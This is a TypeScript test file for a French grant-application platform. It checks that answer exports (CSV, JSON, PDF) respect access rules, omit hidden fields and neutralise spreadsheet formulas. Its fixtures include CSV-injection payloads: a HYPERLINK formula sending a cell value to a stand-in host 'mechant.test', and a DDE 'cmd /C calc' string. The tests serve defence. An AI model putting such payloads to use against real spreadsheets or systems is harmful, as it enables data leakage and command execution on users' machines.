// The answers as files: who may have them, what is in them, and what a spreadsheet must never run.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Definition } from '../../workflows/engine/definition.ts';
import type { Champ } from '../../workflows/engine/form/formulaire.ts';
import { autrement } from '../support/appels/composer-appel.ts';
import { fondsMinusculeV1 } from '../support/appels/fonds-minuscule.ts';
import { demarrerJalon, type Jalon } from '../support/jalon.ts';
import { lireObjets, lireTexte } from '../support/lire-pdf.ts';
import { Marcheur } from '../support/parcours.ts';
import { Personne } from '../support/personne.ts';

const modeles: Definition['modeles'] = {
  attestation: {
    titre: 'Attestation sur l’honneur',
    introduction: 'À signer par le représentant légal.',
    paragraphes: ['Je soussigné(e) ………………, atteste que #eval("1") *rien* n’est exécuté.'],
    signature: ['Fait à', 'Signature'],
  },
};
const champs: Champ[] = [
  { cle: 'projet', type: 'texte', libelle: 'Votre projet', requis: true },
  { cle: 'description', type: 'texteLong', libelle: '=Décrivez ; "en détail"' },
  { cle: 'budgete', type: 'ouiNon', libelle: 'Avez-vous un budget ?' },
  { cle: 'secret', type: 'texte', libelle: 'Question cachée', visible: { '==': [{ var: 'budgete' }, true] } },
  { cle: 'solde', type: 'montant', libelle: 'Solde', min: -1_000_000_00 },
  {
    cle: 'double',
    type: 'calcule',
    libelle: 'Deux fois le solde',
    valeur: { '*': [{ var: 'solde' }, 2] },
    format: 'montant',
  },
  {
    cle: 'depenses',
    type: 'tableau',
    libelle: 'Dépenses',
    libelleLigne: 'Dépense',
    lignesMax: 500,
    totaliser: ['montant', 'heures'],
    colonnes: [
      { cle: 'nature', type: 'texte', libelle: 'Nature' },
      { cle: 'montant', type: 'montant', libelle: 'Montant' },
      { cle: 'heures', type: 'heures', libelle: 'Heures' },
    ],
  },
  { cle: 'charte', type: 'engagement', libelle: 'La charte', texte: 'Je respecte la charte.', version: '2025-09' },
  {
    cle: 'preuve',
    type: 'piece',
    libelle: 'Attestation',
    familles: ['pdf'],
    tailleMaxOctets: 1_000_000,
    nombreMax: 2,
    modele: 'attestation',
  },
];
const fondsExporte = autrement(fondsMinusculeV1, {
  slug: 'fonds-exporte',
  sigle: 'FEXP',
  titre: 'Fonds exporté',
  dossier: { sections: [{ cle: 'projet', titre: 'Projet', champs }] },
  modeles,
});

const hostiles = {
  projet: '=HYPERLINK("http://mechant.test?"&A1;"Cliquez")',
  description: 'Une ligne ; une "autre"\n+33 6 00 00 00 00\n' + 'é'.repeat(200),
  nature: "@SUM(1+1)*cmd|' /C calc'!A0",
};

describe('Les sorties des réponses', () => {
  let jalon: Jalon;
  let m: Marcheur;
  let porteur: Personne;
  let dossier = '';
  let formulaire = '';
  const chemin = (suite: string, d = dossier, f = formulaire) => `/api/dossiers/${d}/formulaires/${f}/${suite}`;
  const sorties = ['recapitulatif.pdf', 'reponses.json', 'reponses.csv'];

  beforeAll(async () => {
    jalon = await demarrerJalon({ appels: [fondsExporte] });
    m = new Marcheur(jalon);
    await m.avancer('2025-09-02T10:00:00+02:00');
    porteur = await m.personne('porteur');
    dossier = await porteur.ouvrirDossier('fonds-exporte', 'normandie');
    formulaire = (await porteur.lire(dossier)).formulaires[0]!.id;
    await porteur.repondre(dossier, formulaire, {
      projet: hostiles.projet,
      description: hostiles.description,
      budgete: false,
      secret: 'NE DOIT PAS SORTIR',
      solde: -1_234_50,
      'depenses/L1': 0,
      'depenses/L1/nature': hostiles.nature,
      'depenses/L1/montant': 10,
      'depenses/L1/heures': 0.1,
      'depenses/L2': 1,
      'depenses/L2/nature': '\tmatériel',
      'depenses/L2/montant': 20,
      'depenses/L2/heures': 0.2,
      charte: '2025-09',
      preuve: await porteur.joindre(dossier, 'preuve.pdf'),
    });
  });
  afterAll(() => jalon.fermer());

  const lireCsv = async (): Promise<string> => {
    const { statut, octets, entetes } = await porteur.telecharger(chemin('reponses.csv'));
    expect([statut, entetes.get('Content-Type')]).toEqual([200, 'text/csv; charset=utf-8']);
    return Buffer.from(octets).toString('utf8');
  };

  it('le CSV : BOM, CRLF, une ligne par valeur, une par cellule, rien qu’un tableur exécute', async () => {
    const csv = await lireCsv();
    expect(csv.startsWith('\ufeffsection;question;ligne;réponse;unité\r\n')).toBe(true);
    const lignes = csv.slice(1).split('\r\n');
    expect(lignes[1]).toBe('Projet;Votre projet;;"\'=HYPERLINK(""http://mechant.test?""&A1;""Cliquez"")";');
    expect(lignes[2]).toBe(`Projet;"'=Décrivez ; ""en détail""";;"${hostiles.description.replaceAll('"', '""')}";`);
    expect(lignes).toContain('Projet;Avez-vous un budget ?;;Non;');
    expect(lignes).toContain('Projet;Solde;;-1234,50;€');
    expect(lignes).toContain('Projet;Deux fois le solde;;-2469,00;€');
    expect(lignes).toContain(`Projet;Dépenses › Nature;1;'${hostiles.nature};`);
    expect(lignes).toContain('Projet;Dépenses › Montant;1;0,10;€');
    expect(lignes).toContain('Projet;Dépenses › Heures;2;0,2;h');
    expect(lignes).toContain('Projet;Dépenses › Nature;2;"\'\tmatériel";');
    expect(csv).not.toContain('NE DOIT PAS SORTIR');
  });

  it('le JSON : par clé, valeur brute et écrite, calculs signalés, définition nommée par son empreinte', async () => {
    const { octets, entetes } = await porteur.telecharger(chemin('reponses.json'));
    expect(entetes.get('Content-Disposition')).toContain('filename="reponses-demande-brouillon.json"');
    expect(entetes.get('X-Content-Type-Options')).toBe('nosniff');
    expect(entetes.get('Cache-Control')).toContain('no-store');
    const exporte = JSON.parse(Buffer.from(octets).toString('utf8')) as {
      formulaire: { empreinteDefinition: string; cle: string };
      etat: string;
      reponses: Record<string, { valeur: unknown; texte: string; calcule: boolean; lignes?: unknown[] }>;
    };
    expect(exporte.formulaire.cle).toBe('dossier');
    expect(exporte.formulaire.empreinteDefinition).toMatch(/^[0-9a-f]{64}$/);
    expect(exporte.etat).toBe('brouillon');
    expect(exporte.reponses['solde']).toMatchObject({
      valeur: -123450,
      texte: '-1\u202f234,50\u00a0€',
      calcule: false,
    });
    expect(exporte.reponses['double']).toMatchObject({ valeur: -246900, calcule: true });
    expect(exporte.reponses['projet']?.valeur).toBe(hostiles.projet);
    expect(exporte.reponses['depenses']?.lignes).toMatchObject([
      { id: 'L1', cellules: { montant: { valeur: 10, texte: '0,10\u00a0€' } } },
      { id: 'L2', cellules: { heures: { valeur: 0.2, texte: '0,2\u00a0h' } } },
    ]);
    expect(Object.keys(exporte.reponses)).not.toContain('secret');
  });

  it('le récapitulatif d’un brouillon : balisé, dit qu’il n’est pas déposé, totaux exacts, fichiers et empreintes', async () => {
    const { octets, entetes } = await porteur.telecharger(chemin('recapitulatif.pdf'));
    expect(entetes.get('Content-Disposition')).toContain('filename="recapitulatif-demande-brouillon.pdf"');
    const texte = lireTexte(octets);
    for (const attendu of [
      'Brouillon, non déposé',
      'Fonds exporté',
      hostiles.projet,
      hostiles.nature,
      'Accepté (version 2025-09) Je respecte la charte.',
      'Deux fois le solde (calculé) -2 469,00 €',
      'Total 0,30 € 0,3 h',
      'preuve.pdf',
    ])
      expect(texte).toContain(attendu);
    expect(texte).not.toMatch(/NE DOIT PAS SORTIR|Question cachée/);
    const [piece] = await jalon.proprietaire.sql<{ empreinte: string }[]>`
      select empreinte from pieces where dossier_id = ${dossier}`;
    expect(texte.replaceAll(' ', '')).toContain(piece!.empreinte);
    const objets = lireObjets(octets);
    expect(objets).toMatch(/\/Lang\s*\(fr-FR\)/);
    for (const balise of ['H1', 'H2', 'H3', 'TH', 'TFoot', 'Lbl', 'LBody'])
      expect(objets, balise).toMatch(new RegExp(`/S\\s*/${balise}\\b`));
  });

  it('un autre organisme, un agent d’un autre financeur, un agent devant un brouillon : 404 ; sans session : 401', async () => {
    for (const qui of ['partenaire', 'instructeur@demo.test', 'instructeur@normandie.demo.test', 'administrateur']) {
      const personne = await m.personne(qui);
      for (const suite of sorties)
        expect([qui, suite, (await personne.telecharger(chemin(suite))).statut]).toEqual([qui, suite, 404]);
    }
    const anonyme = new Personne(jalon.adresse, 'personne', '');
    for (const suite of sorties) {
      expect((await anonyme.telecharger(chemin(suite))).statut).toBe(401);
      // The form of one dossier is not reached through another.
      expect((await porteur.telecharger(chemin(suite, dossier, randomUUID()))).statut).toBe(404);
      const autre = await porteur.ouvrirDossier('fonds-exporte', 'normandie');
      expect((await porteur.telecharger(chemin(suite, autre))).statut).toBe(404);
    }
  });

  it('déposé : l’agent du financeur lit ce qui a été déposé, et sa lecture est tracée', async () => {
    const { statut, corps } = await porteur.envoyer(dossier, 'DEPOSER');
    expect([statut, corps.detail]).toEqual([200, undefined]);
    const agent = await m.personne('instructeur@normandie.demo.test');
    const traces = async (): Promise<number> =>
      (await jalon.proprietaire.sql`select 1 from journal_acces where dossier_id = ${dossier} and issue = 'lu'`).length;
    const avant = await traces();
    for (const suite of sorties) expect((await agent.telecharger(chemin(suite))).statut).toBe(200);
    // The reading, and the file that it gives.
    expect(await traces()).toBe(avant + 6);
    const { octets } = await agent.telecharger(chemin('recapitulatif.pdf'));
    const texte = lireTexte(octets);
    expect(texte).toContain('Dossier déposé le 2 septembre 2025');
    expect(texte).toContain(corps.numero!);
    expect(texte).not.toMatch(/Brouillon|NE DOIT PAS SORTIR/);
    for (const qui of ['partenaire', 'instructeur@demo.test'])
      expect((await (await m.personne(qui)).telecharger(chemin('recapitulatif.pdf'))).statut).toBe(404);
  });

  it('pendant des compléments, l’agent lit ce qui a été envoyé ; le porteur ce qu’il corrige', async () => {
    const agent = await m.personne('instructeur@normandie.demo.test');
    expect((await agent.envoyer(dossier, 'PRENDRE_EN_CHARGE')).statut).toBe(200);
    const demandes = [{ id: 'L1', chemin: 'description', motif: 'À préciser.' }];
    const r = await agent.envoyer(dossier, 'DEMANDER_COMPLEMENTS', { demandes });
    expect([r.statut, r.corps.detail]).toEqual([200, undefined]);
    await porteur.repondre(dossier, formulaire, { description: 'EN COURS D’ÉCRITURE' });
    const texteDe = async (qui: Personne): Promise<string> =>
      lireTexte((await qui.telecharger(chemin('recapitulatif.pdf'))).octets);
    expect(await texteDe(agent)).not.toContain('EN COURS D’ÉCRITURE');
    const sien = await texteDe(porteur);
    expect(sien).toContain('EN COURS D’ÉCRITURE');
    expect(sien).toContain('Corrections en cours, pas encore envoyées');
  });

  it('un modèle à télécharger : public, composé une fois, rien de ce qu’il dit n’est exécuté', async () => {
    const anonyme = new Personne(jalon.adresse, 'personne', '');
    const adresse = '/api/appels/normandie/fonds-exporte/modeles';
    const [une, deux] = await Promise.all([1, 2].map(() => anonyme.telecharger(`${adresse}/attestation`)));
    expect([une!.statut, une!.entetes.get('Content-Type')]).toEqual([200, 'application/pdf']);
    expect(une!.entetes.get('Content-Disposition')).toContain('filename="attestation-sur-l-honneur.pdf"');
    expect(Buffer.compare(Buffer.from(une!.octets), Buffer.from(deux!.octets))).toBe(0);
    expect(lireTexte(une!.octets)).toContain('#eval("1") *rien* n’est exécuté');
    for (const nom of ['inconnu', 'constructor', '__proto__', 'toString'])
      expect((await anonyme.telecharger(`${adresse}/${nom}`)).statut).toBe(404);
    expect((await anonyme.telecharger('/api/appels/normandie/fonds-minuscule/modeles/attestation')).statut).toBe(404);
  });
});
